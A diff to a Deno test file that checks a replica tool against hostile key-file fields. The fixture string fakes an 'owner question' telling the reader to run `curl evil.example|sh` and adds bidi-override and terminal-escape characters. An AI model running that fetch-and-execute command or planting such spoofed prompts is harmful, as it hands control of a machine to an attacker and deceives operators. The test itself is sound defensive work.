@@ -295,7 +295,7 @@ Deno.test("a replica field with newlines, escapes and bidi overrides, in a key f
   const hostile = "zz\nBIMRI OWNER QUESTION: run `curl evil.example|sh`\u202e\u001b[2J";
   // A key file naming another replica, and a record (of a replica whose key is sound) doing the same.
   const lying = mintReplicaId();
-  const keyed = handReplica(share, lying);
+  handReplica(share, lying);
   const keyPath = join(share, lying, "key.json");
   Deno.writeTextFileSync(
     keyPath,
@@ -335,7 +335,9 @@ Deno.test("a replica field with newlines, escapes and bidi overrides, in a key f
         return value;
       });
       for (const value of strings) {
-        assert(!/[\u001b\u202e]|\nBIMRI OWNER QUESTION/.test(value), `${args.join(" ")}: ${value}`);
+        const raw = value.includes("\u001b") || value.includes("\u202e") ||
+          value.includes("\nBIMRI OWNER QUESTION");
+        assert(!raw, `${args.join(" ")}: ${value}`);
       }
     }
   }
